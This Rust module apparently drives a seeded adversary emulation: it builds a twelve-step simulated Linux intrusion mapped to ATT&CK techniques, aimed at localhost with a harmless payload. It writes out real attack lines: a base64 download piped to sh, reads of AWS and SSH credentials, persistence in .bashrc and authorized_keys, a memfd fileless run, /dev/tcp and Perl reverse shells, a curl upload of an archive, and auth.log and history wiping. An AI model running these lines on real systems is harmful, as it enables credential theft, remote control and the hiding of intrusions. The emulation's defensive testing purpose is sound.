//! The imitation of an intrusion: twelve steps over eight tactics.
//!
//! The first two steps and the last five stand in order, for each needs the one before; the five
//! between are independent and come in an order drawn from the seed. Every command is an ordinary
//! tool of the system. What makes it an intrusion is what the steps are to each other.

use crate::scene::{Ports, Scene, Step};
use crate::seed::Choices;
use crate::shell::REPORTER;

/// Everything a step's script is written from.
#[derive(Debug)]
struct Writer<'a> {
    scene: &'a Scene,
    ports: Ports,
    choices: Choices,
    drop: String,
    loot: String,
}

/// The steps, in the order in which they are to run.
pub fn steps(scene: &Scene, ports: Ports, mut choices: Choices) -> Vec<Step> {
    let drop = choices.name();
    let loot = choices.name();
    let mut writer = Writer { scene, ports, choices, drop, loot };
    let (persist, unpersist) = writer.persistence();
    let mut middle = vec![
        writer.discovery(),
        writer.credentials(),
        persist,
        writer.memory_execution(),
        writer.reverse_shell(),
    ];
    writer.choices.shuffle(&mut middle);
    let mut steps = vec![writer.download(), writer.decode_and_run()];
    steps.append(&mut middle);
    steps.extend([
        writer.staging(),
        writer.upload(),
        writer.log_tampering(),
        unpersist,
        writer.clean_up(),
    ]);
    steps
}

/// What the far side hands out: a script in base64, as the downloaded file holds it.
pub fn payload() -> Vec<u8> {
    use base64::Engine as _;
    let script = format!("#!/bin/sh\n{REPORTER}\nr id -un >/dev/null\nr uname -m >/dev/null\n");
    let mut text = base64::engine::general_purpose::STANDARD.encode(script);
    text.push('\n');
    text.into_bytes()
}

impl Writer<'_> {
    fn work(&self) -> String {
        self.scene.work.display().to_string()
    }

    fn home(&self) -> String {
        self.scene.home.display().to_string()
    }

    fn loot(&self) -> String {
        format!("{}/{}", self.work(), self.loot)
    }

    fn download(&mut self) -> Step {
        let file = format!("{}/{}", self.work(), self.drop);
        let url = format!("http://127.0.0.1:{}/{}", self.ports.http, self.choices.name());
        let ways = [
            (has("curl"), format!("r curl -fsS -o {file} {url}")),
            (has("wget"), format!("r wget -q -O {file} {url}")),
            (has("curl"), format!("r curl -s -L {url} --output {file}")),
        ];
        Step {
            name: "download",
            tactics: &["command-and-control"],
            techniques: &["T1105"],
            script: vec![self.choose(&ways), format!("r mkdir -p {}", self.loot())],
        }
    }

    fn decode_and_run(&mut self) -> Step {
        let file = format!("{}/{}", self.work(), self.drop);
        let script = format!("{}/{}.sh", self.work(), self.choices.name());
        let script = match self.choices.below(3) {
            0 => vec![format!("r sh -c \"base64 -d {file} | sh\"")],
            1 => vec![
                format!("r base64 -d {file} > {script}"),
                format!("r chmod +x {script}"),
                format!("r {script}"),
            ],
            _ => vec![format!("r bash -c \"cat {file} | base64 --decode | bash\"")],
        };
        Step {
            name: "decode-and-run",
            tactics: &["defense-evasion", "execution"],
            techniques: &["T1140", "T1059.004"],
            script,
        }
    }

    fn discovery(&mut self) -> Step {
        let mut commands = vec!["id", "uname -a", "whoami", "hostname", "cat /etc/passwd"];
        let more = [
            ("ps", "ps aux"),
            ("ss", "ss -tln"),
            ("df", "df -h"),
            ("ip", "ip addr show"),
            ("groups", "groups"),
            ("cat", "cat /etc/os-release"),
            ("cat", "cat /proc/version"),
        ];
        commands.extend(more.iter().filter(|(tool, _)| has(tool)).map(|(_, command)| *command));
        self.choices.shuffle(&mut commands);
        let loot = self.loot();
        Step {
            name: "discovery",
            tactics: &["discovery"],
            techniques: &["T1082", "T1033", "T1057", "T1087.001"],
            script: commands.iter().map(|command| format!("r {command} >> {loot}/host")).collect(),
        }
    }

    fn credentials(&mut self) -> Step {
        let (home, loot) = (self.home(), self.loot());
        let mut script = vec![
            format!("r cat {home}/.aws/credentials > {loot}/a"),
            format!("r cat {home}/.ssh/id_ed25519 > {loot}/b"),
            // Opened as an intruder opens it, but not one byte is read.
            "r head -c 0 /etc/shadow".to_owned(),
        ];
        self.choices.shuffle(&mut script);
        Step {
            name: "credential-read",
            tactics: &["credential-access"],
            techniques: &["T1552.001", "T1552.004", "T1003.008"],
            script,
        }
    }

    fn persistence(&mut self) -> (Step, Step) {
        let home = self.home();
        let name = self.choices.name();
        let line = format!("(sh -c true &) # {name}");
        let units = format!("{home}/.config/systemd/user");
        let (write, remove) = match self.choices.below(3) {
            0 => (
                vec![format!("r sh -c \"echo '{line}' >> {home}/.bashrc\"")],
                vec![format!("r sed -i '$d' {home}/.bashrc")],
            ),
            1 => (
                vec![format!(
                    "echo 'ssh-ed25519 AAAAimitation {name}' >> {home}/.ssh/authorized_keys"
                )],
                vec![format!("r sed -i /{name}/d {home}/.ssh/authorized_keys")],
            ),
            _ => (
                vec![format!("echo '{line}' >> {home}/.profile")],
                vec![format!("r sed -i /{name}/d {home}/.profile")],
            ),
        };
        let unit = "[Service]\\nExecStart=/bin/true\\n[Install]\\nWantedBy=default.target\\n";
        let mut script = vec![
            format!("r mkdir -p {units}"),
            format!("printf '{unit}' > {units}/{name}.service"),
        ];
        script.extend(write);
        let mut undo = remove;
        undo.push(format!("r rm -f {units}/{name}.service"));
        let persist = Step {
            name: "persistence",
            tactics: &["persistence", "privilege-escalation"],
            techniques: &["T1543.002", "T1546.004", "T1098.004"],
            script,
        };
        let unpersist = Step {
            name: "persistence-removal",
            tactics: &["defense-evasion", "persistence", "privilege-escalation"],
            techniques: &["T1070.009"],
            script: undo,
        };
        (persist, unpersist)
    }

    fn memory_execution(&mut self) -> Step {
        // memfd_create has no wrapper in Perl; its number depends on the architecture.
        let number = if cfg!(target_arch = "aarch64") { 279 } else { 319 };
        let name = self.choices.name();
        let code = format!(
            "my $n=\"{name}\";my $f=syscall({number},$n,0);open(my $o,\">&=\",$f)||exit 9;\
             open(my $i,\"<\",\"/bin/true\")||exit 8;binmode $i;binmode $o;$/=undef;print {{$o}} <$i>;\
             $o->flush();exec {{\"/proc/$$/fd/$f\"}} \"{name}\",\"-q\""
        );
        Step {
            name: "memory-execution",
            tactics: &["defense-evasion", "execution"],
            techniques: &["T1620"],
            script: vec![format!("r perl -MIO::Handle -e '{code}'")],
        }
    }

    fn reverse_shell(&mut self) -> Step {
        let port = self.ports.shell;
        let perl = format!(
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);\
             connect(S,sockaddr_in({port},inet_aton(\"127.0.0.1\")))||exit 7;\
             open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh\",\"-i\")"
        );
        let ways = [
            (has("bash"), format!("r bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")),
            (true, format!("r perl -e '{perl}'")),
            (
                has("bash"),
                format!("r bash -c 'exec 7<>/dev/tcp/127.0.0.1/{port}; sh -i <&7 >&7 2>&7'"),
            ),
        ];
        Step {
            name: "reverse-shell",
            tactics: &["execution", "command-and-control"],
            techniques: &["T1059.004", "T1095"],
            script: vec![self.choose(&ways)],
        }
    }

    fn archive(&self) -> String {
        format!("{}/{}.tgz", self.work(), self.loot)
    }

    fn staging(&mut self) -> Step {
        let (home, loot, archive) = (self.home(), self.loot(), self.archive());
        let pack = match self.choices.below(2) {
            0 => vec![format!("r tar czf {archive} -C {home} documents .aws .ssh")],
            _ => vec![
                format!("r cp -r {home}/documents {loot}/"),
                format!("r tar -C {loot} -c -z -f {archive} ."),
            ],
        };
        Step {
            name: "staging",
            tactics: &["collection"],
            techniques: &["T1560.001", "T1074.001"],
            script: pack,
        }
    }

    fn upload(&mut self) -> Step {
        let archive = self.archive();
        let url = format!("http://127.0.0.1:{}/{}", self.ports.http, self.choices.name());
        let ways = [
            (has("curl"), format!("r curl -fsS -F file=@{archive} {url}")),
            (has("curl"), format!("r curl -fsS -T {archive} {url}")),
            (has("curl"), format!("r curl -fsS --data-binary @{archive} {url}")),
            (has("wget"), format!("r wget -q -O /dev/null --post-file={archive} {url}")),
        ];
        Step {
            name: "upload",
            tactics: &["exfiltration"],
            techniques: &["T1048.003", "T1041"],
            script: vec![self.choose(&ways)],
        }
    }

    fn log_tampering(&mut self) -> Step {
        let (home, logs) = (self.home(), self.scene.logs.display().to_string());
        let log = match self.choices.below(3) {
            0 => format!("r truncate -s 0 {logs}/auth.log"),
            1 => format!("r rm -f {logs}/auth.log"),
            _ => format!("r sed -i /session/d {logs}/auth.log"),
        };
        let history = match self.choices.below(3) {
            0 => format!("r rm -f {home}/.bash_history"),
            1 => format!("r truncate -s 0 {home}/.bash_history"),
            _ => format!("r ln -sf /dev/null {home}/.bash_history"),
        };
        Step {
            name: "log-tampering",
            tactics: &["defense-evasion"],
            techniques: &["T1070.002", "T1070.003"],
            script: vec![log, history],
        }
    }

    fn clean_up(&mut self) -> Step {
        let work = self.work();
        Step {
            name: "clean-up",
            tactics: &["defense-evasion"],
            techniques: &["T1070.004", "T1070.006"],
            script: vec![
                format!("r touch -r /bin/ls {work}/{}", self.drop),
                "cd /".to_owned(),
                format!("r rm -rf {work}"),
                format!("r rm -rf {}", self.scene.root.display()),
            ],
        }
    }

    /// One of the ways whose tool is here; the last when none is (the step then reports failure).
    fn choose(&mut self, ways: &[(bool, String)]) -> String {
        let here: Vec<&String> =
            ways.iter().filter(|(here, _)| *here).map(|(_, way)| way).collect();
        if here.is_empty() {
            return ways.last().map(|(_, way)| way.clone()).unwrap_or_default();
        }
        (*self.choices.pick(&here)).clone()
    }
}

/// Whether `tool` is installed.
pub fn has(tool: &str) -> bool {
    ["/usr/sbin", "/usr/bin", "/sbin", "/bin"]
        .iter()
        .any(|folder| std::path::Path::new(folder).join(tool).is_file())
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::{Ports, Scene, steps};
    use crate::truth::Scenario;

    #[test]
    fn it_has_ten_steps_over_six_tactics_and_seeds_differ() {
        let mut scripts = BTreeSet::new();
        let mut orders = BTreeSet::new();
        for seed in 0..24 {
            let place = tempfile::tempdir().expect("temp dir");
            let laid =
                Scene::lay_out(Scenario::Intrusion, seed, Some(place.path())).expect("lays out");
            let (scene, choices) = Scene::at(laid.root, Scenario::Intrusion, seed);
            let steps = steps(&scene, Ports { http: 1, shell: 2 }, choices);
            let tactics: BTreeSet<_> = steps.iter().map(|step| step.tactics[0]).collect();
            assert!(steps.len() >= 10 && tactics.len() >= 6, "{tactics:?}");
            orders.insert(steps.iter().map(|step| step.name).collect::<Vec<_>>());
            scripts.insert(steps.iter().flat_map(|step| step.script.clone()).collect::<Vec<_>>());
        }
        assert!(orders.len() > 10, "the order varies: {}", orders.len());
        assert_eq!(scripts.len(), 24, "no two seeds write the same");
    }
}
